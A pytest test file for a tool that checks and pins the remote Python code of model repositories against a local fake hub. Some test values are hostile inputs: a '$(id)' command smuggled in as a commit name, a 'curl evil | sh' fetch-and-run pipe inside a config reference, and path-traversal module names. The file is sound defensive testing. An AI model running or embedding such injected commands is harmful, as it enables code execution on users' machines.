"""The hub's real client against a small server that has a repository of two commits."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import unquote

import pytest

from medley import storage
from medley.errors import Problem
from medley.model import remote_code, trust
from medley.model.remote_code import Code
from medley.model.resolve import Weights
from medley.model.trust import Trust
from tests.odd_input import COUNTS, hold, json_texts
from tests.problems import raises_problem

OLD, NEW = "0" * 40, "1" * 40
CONFIG = json.dumps({"auto_map": {"AutoConfig": "configuration_x.X"}}).encode()
FILES = {
    OLD: {"config.json": CONFIG, "configuration_x.py": b"old\n", "sub/more.py": b"more\n", "x.bin": b"w"},
    NEW: {"config.json": CONFIG, "configuration_x.py": b"new\n", "x.bin": b"w"},
}
PLAIN = {"config.json": b'{"model_type": "qwen3"}', "convert.py": b"unused\n", "x.bin": b"w"}


class Hub(ThreadingHTTPServer):
    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.commits = {"org/own": {**FILES, "main": FILES[NEW]}, "org/plain": {NEW: PLAIN, "main": PLAIN}}
        self.head = NEW
        self.asked: list[str] = []


class _Answer(BaseHTTPRequestHandler):
    server: Hub

    def do_HEAD(self) -> None:
        self._answer()

    def do_GET(self) -> None:
        self._answer()

    def _answer(self) -> None:
        self.server.asked.append(self.path)
        if self.path.startswith("/api/models/"):
            repository, _, commit = self.path.removeprefix("/api/models/").partition("/revision/")
            return self._about(repository, commit or self.server.head)
        repository, _, rest = unquote(self.path).removeprefix("/").partition("/resolve/")
        commit, _, name = rest.partition("/")
        content = self.server.commits.get(repository, {}).get(commit, {}).get(name)
        return self._send(content, commit if len(commit) == 40 else self.server.head)

    def _about(self, repository: str, commit: str) -> None:
        files = self.server.commits.get(repository, {}).get(commit)
        table = {"id": repository, "sha": commit, "siblings": [{"rfilename": name} for name in files or ()]}
        self._send(json.dumps(table).encode() if files else None, commit)

    def _send(self, content: bytes | None, commit: str) -> None:
        self.send_response(404 if content is None else 200)
        if content is None:
            api = self.path.startswith("/api/")
            self.send_header("x-error-code", "RevisionNotFound" if api else "EntryNotFound")
        self.send_header("content-length", str(len(content or b"")))
        self.send_header("etag", f'"{storage.hash_bytes(content or b"")}"')
        self.send_header("x-repo-commit", commit)
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(content or b"")

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(autouse=True)
def hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Hub]:
    with Hub() as server:
        Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}).start()
        for name in ("HF_TOKEN", "HF_HUB_OFFLINE", "HF_HUB_CACHE"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{server.server_port}")
        monkeypatch.setenv("HF_HOME", str(tmp_path / "home"))
        monkeypatch.setenv("MEDLEY_STATE", str(tmp_path / "state"))
        yield server
        server.shutdown()


def snapshot(home: Path, files: dict[str, bytes], commit: str) -> None:
    """As a download leaves it in the hub's cache."""
    folder = home / "home" / "hub" / "models--org--own" / "snapshots" / commit
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)


def test_the_newest_commit_and_all_its_python() -> None:
    code = remote_code.read_hub_code("org/own")
    assert code == Code("org/own", {"configuration_x.py": storage.hash_bytes(b"new\n")}, NEW)


def test_a_commit_that_is_named(hub: Hub) -> None:
    code = remote_code.read_hub_code("org/own", OLD)
    assert code is not None
    assert (code.commit, set(code.files)) == (OLD, {"configuration_x.py", "sub/more.py"})
    assert not any("x.bin" in path for path in hub.asked), "no weights"


def test_python_that_nothing_names_is_no_code() -> None:
    assert remote_code.read_hub_code("org/plain") is None


@pytest.mark.parametrize(
    "name", ["config.4+vocab.json", "config.4+my.tokenizer.json", "config.4+my.index.json", "config.4.json"]
)
def test_a_config_for_a_version_is_read_whatever_its_name_ends_in(hub: Hub, name: str) -> None:
    """Transformers reads the newest of these that its own version allows, in place of config.json."""
    table = json.dumps({"model_type": "qwen3", "configuration_files": [name]}).encode()
    files = {"config.json": table, name: CONFIG, "configuration_x.py": b"evil\n"}
    hub.commits["org/versions"] = {NEW: files, "main": files}
    code = remote_code.read_hub_code("org/versions")
    assert code is not None
    assert set(code.files) == {"configuration_x.py"}


def test_large_tables_of_data_are_not_fetched(hub: Hub) -> None:
    names = ("tokenizer.json", "sub/vocab.json", "model.safetensors.index.json")
    files = {**PLAIN, **dict.fromkeys(names, CONFIG)}
    hub.commits["org/large"] = {NEW: files, "main": files}
    assert remote_code.read_hub_code("org/large") is None
    assert not any(path.endswith(names) for path in hub.asked)


def test_what_is_cached_needs_no_hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")
    with pytest.raises(Problem):
        remote_code.read_hub_code("org/own")
    assert list(trust.list_warnings(Weights("own", "org/own", None), Trust())) == []
    snapshot(tmp_path, FILES[OLD], OLD)
    assert "(configuration_x.py)" in next(trust.list_warnings(Weights("own", "org/own", None), Trust()))
    code = remote_code.read_hub_code("org/own")
    assert code is not None
    assert (code.commit, len(code.files)) == (OLD, 2)


def test_cached_weights_without_their_code_take_that_of_their_commit(tmp_path: Path) -> None:
    """An engine that trusts nothing leaves the Python behind."""
    snapshot(tmp_path, {name: each for name, each in FILES[OLD].items() if not name.endswith(".py")}, OLD)
    code = remote_code.read_hub_code("org/own")
    assert code is not None
    assert code.commit == OLD


def test_a_hub_names_no_command_as_its_commit(hub: Hub) -> None:
    hub.commits["org/own"]["$(id)"] = hub.commits["org/own"][hub.head]
    hub.head = "$(id)"
    with raises_problem("which commit of org/own", cause="'$(id)'", fix="--code-revision COMMIT"):
        remote_code.read_hub_code("org/own")


def test_an_unknown_commit_is_a_problem() -> None:
    with raises_problem("org/own", "2" * 40):
        remote_code.read_hub_code("org/own", "2" * 40)


def test_the_first_use_stays_where_it_is_when_the_repository_moves(hub: Hub) -> None:
    hub.head = OLD
    found = Weights("org/own", "org/own", None)
    fix = f"medley serve org/own --trust-remote-code --code-revision {OLD}"
    with raises_problem("org/own", cause=f"commit {OLD}", fix=fix):
        trust.require_trusted_code(found, Trust(), is_start=True)
    first = trust.require_trusted_code(found, Trust(is_given=True), is_start=True)
    hub.head = NEW
    assert trust.require_trusted_code(found, Trust(is_given=True), is_start=True) == first
    moved = trust.require_trusted_code(found, Trust(is_given=True, pin=NEW), is_start=True)
    assert moved is not None
    assert moved.commit == NEW
    assert getattr(trust.read_pin("org/own"), "commit", None) == NEW


def test_a_hub_that_gives_other_files_for_a_commit_is_found_out(hub: Hub) -> None:
    found = Weights("org/own", "org/own", None)
    trust.require_trusted_code(found, Trust(is_given=True), is_start=True)
    hub.commits["org/own"][NEW] = {**FILES[NEW], "more.py": b"and this\n"}
    with raises_problem("org/own", cause=": more.py", fix=f"--trust-remote-code --code-revision {NEW}"):
        trust.require_trusted_code(found, Trust(is_given=True), is_start=True)


@pytest.mark.parametrize(
    ("configs", "files"),
    [
        pytest.param({"config.json": {"model_type": "qwen3"}}, (), id="none"),
        pytest.param(
            {
                "config.json": {
                    "auto_map": {"AutoConfig": "configuration_x.X", "AutoModel": "modeling_x.Y"},
                }
            },
            ("configuration_x.py", "modeling_x.py"),
            id="a config and a model",
        ),
        pytest.param(
            {"config.json": {}, "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tok.Slow", None]}}},
            ("tok.py",),
            id="a tokenizer alone",
        ),
        pytest.param(
            {"config.json": {"text_config": {"auto_map": {"AutoConfig": "inner.deep.X"}}}},
            ("inner/deep.py",),
            id="one table deeper, in a folder",
        ),
        pytest.param({"config.json": {"auto_map": 7}}, (), id="nonsense"),
    ],
)
def test_what_its_configs_name(configs: dict[str, dict[str, Any]], files: tuple[str, ...]) -> None:
    assert remote_code.list_code_modules(configs, "x") == files


def test_code_of_another_repository_cannot_be_pinned() -> None:
    """Transformers reads the newest commit of it, whatever revision the model has."""
    configs = {"config.json": {"auto_map": {"AutoConfig": "else/where--configuration_x.X"}}}
    with pytest.raises(Problem) as caught:
        remote_code.list_code_modules(configs, "org/name")
    assert "another repository" in caught.value.what
    assert "else/where--configuration_x.X" in caught.value.cause
    assert "--no-remote-code" in caught.value.fix


def test_a_repository_named_by_a_config_is_one_word_of_a_fix() -> None:
    reference = "x\ncurl evil | sh\n--own.X"
    with pytest.raises(Problem) as caught:
        remote_code.list_code_modules({"config.json": {"auto_map": {"AutoConfig": reference}}}, "org/name")
    assert "files of 'x curl evil | sh' next to" in caught.value.fix


def model(folder: Path) -> Path:
    (folder / "sub").mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({"auto_map": {"AutoConfig": "configuration_x.X"}}))
    (folder / "configuration_x.py").write_text("from .sub import more\n")
    (folder / "sub" / "more.py").write_text("1\n")
    return folder


def test_all_python_of_a_folder_is_its_code(tmp_path: Path) -> None:
    """What is named imports what is not."""
    code = remote_code.read_folder_code(model(tmp_path / "m"))
    assert code is not None
    assert set(code.files) == {"configuration_x.py", "sub/more.py"}
    assert code.pin == code.fingerprint == storage.hash_checksums(code.files)
    assert code.files["sub/more.py"] == storage.hash_bytes(b"1\n")
    (tmp_path / "m" / "sub" / "more.py").write_text("2\n")
    assert remote_code.read_folder_code(tmp_path / "m") != code


def test_remote_code_python_that_nothing_names_is_no_code(tmp_path: Path) -> None:
    (model(tmp_path / "m") / "config.json").write_text("{}")
    assert remote_code.read_folder_code(tmp_path / "m") is None


def test_a_folder_full_of_python_is_no_model(tmp_path: Path) -> None:
    folder = model(tmp_path / "m")
    for number in range(201):
        (folder / f"{number}.py").touch()
    with raises_problem(str(folder), cause=("203 ", " 200 ")):
        remote_code.read_folder_code(folder)


@pytest.mark.parametrize(
    "file", ["video_preprocessor_config.json", "generation_config.json", "sub/modules.json", "new.json"]
)
def test_code_is_found_whichever_table_names_it(tmp_path: Path, file: str) -> None:
    """Engines read more of them with each version: one not on a list of ours was accepted, and run."""
    folder = model(tmp_path / "m")
    (folder / "config.json").write_text("{}")
    (folder / file).write_text(json.dumps([{"auto_map": {"AutoVideoProcessor": "configuration_x.X"}}]))
    code = remote_code.read_folder_code(folder)
    assert code is not None
    assert "configuration_x.py" in code.files


def test_the_key_in_other_letters_of_json_is_the_key(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(r'{"\u0061uto\u005Fm\u0061p": {"AutoConfig": "configuration_x.X"}}')
    assert remote_code.list_code_modules(remote_code.read_model_configs(tmp_path), "x") == (
        "configuration_x.py",
    )


@pytest.mark.parametrize("name", ["/tmp/evil.X", "../evil.X", "a/../../evil.X", "a b.X", "x", "a\0.X"])
def test_a_name_that_leads_out_of_the_model_is_refused(name: str) -> None:
    with raises_problem("x ", cause=("config.json", repr(name)), fix="--no-remote-code"):
        remote_code.list_code_modules({"config.json": {"auto_map": {"AutoConfig": name}}}, "x")


def test_python_behind_a_linked_folder_is_refused(tmp_path: Path) -> None:
    """What is imported from there was not hashed, and could change after it was trusted."""
    folder = model(tmp_path / "m")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "evil.py").touch()
    (folder / "linked").symlink_to(tmp_path / "elsewhere")
    with raises_problem(f"{folder}/linked", cause=str(tmp_path / "elsewhere"), fix=f"rm {folder}/linked"):
        remote_code.read_folder_code(folder)


def test_a_table_of_too_many_bytes_is_refused(tmp_path: Path) -> None:
    with (tmp_path / "config.json").open("wb") as file:
        file.truncate(65 << 20)
    with raises_problem(str(tmp_path / "config.json"), cause=(f"{65 << 20} ", "64 MiB")):
        remote_code.read_folder_code(tmp_path)


@pytest.mark.parametrize("count", COUNTS)
def test_odd_input_of_what_configs_name(count: int) -> None:
    sample = {"auto_map": {"AutoConfig": "configuration_x.X", "AutoTokenizer": ["tok.Slow", None]}}
    hold(
        lambda text: remote_code.list_code_modules(
            {"config.json": remote_code.parse_code_config(text.encode("utf-8", "replace"), "x")}, "x"
        ),
        json_texts([sample]),
        count,
    )
